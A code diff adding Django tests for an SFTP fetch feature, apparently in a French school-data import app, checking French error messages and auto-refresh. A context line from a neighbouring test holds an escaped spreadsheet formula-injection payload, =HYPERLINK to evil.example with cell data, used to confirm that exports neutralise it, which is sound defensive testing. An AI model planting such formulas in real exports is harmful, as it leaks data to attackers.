@@ -198,3 +198,45 @@ def test_problems_csv_neutralises_formulas_from_the_feed(client, city_user, feed
         'warning,dangling,ENT_PERSEDUCNAT.xml,7,"\'=HYPERLINK(""http://evil.example/?""&A1,""ok"")",'
         "'-2+3,'@SUM(1)",
     ]
+
+
+@pytest.mark.django_db(transaction=True)
+def test_fetch_button_shows_the_outcome_in_french_not_started_in_green(client, settings):
+    """It said "a commencé" in green while the attempt had failed, the reason in English."""
+    from django.contrib.messages import constants
+
+    from schools.tests.factories import UserFactory
+
+    settings.SFTP_HOST = ""
+    city = UserFactory(login="agent.ville", kind="city")
+    client.force_login(city)
+    response = client.post(reverse("imports:fetch-now"), follow=True)
+    shown = [(m.level, str(m)) for m in response.context["messages"]]
+    assert shown == [
+        (
+            constants.ERROR,
+            "La récupération depuis l'Académie a échoué : le SFTP n'est pas configuré "
+            "(paramètres SFTP_…).",
+        )
+    ]
+    html = response.content.decode()
+    assert "a commencé" not in html
+    assert '<li class="message error">' in html
+    attempt = FetchAttempt.objects.get()
+    assert (attempt.status, attempt.code) == (FetchAttempt.Status.FAILED, "sftp-not-configured")
+    assert attempt.reason == "le SFTP n'est pas configuré (paramètres SFTP_…)"
+
+
+def test_a_fetch_still_running_says_so(client, city_user, django_capture_on_commit_callbacks):
+    client.force_login(city_user)
+    with django_capture_on_commit_callbacks(execute=False):  # the worker has not started it yet
+        response = client.post(reverse("imports:fetch-now"), follow=True)
+    assert [str(m) for m in response.context["messages"]] == [
+        "Récupération demandée : son résultat s'affiche ci-dessous dès qu'elle est finie."
+    ]
+    assert FetchAttempt.objects.count() == 0
+    # Once the worker runs it, the page refreshes itself until the outcome is known.
+    FetchAttempt.objects.create(status=FetchAttempt.Status.RUNNING, trigger="manual")
+    page = client.get(reverse("imports:run-list"))
+    assert page.context["working"] is True
+    assert '<meta http-equiv="refresh" content="5">' in page.content.decode()
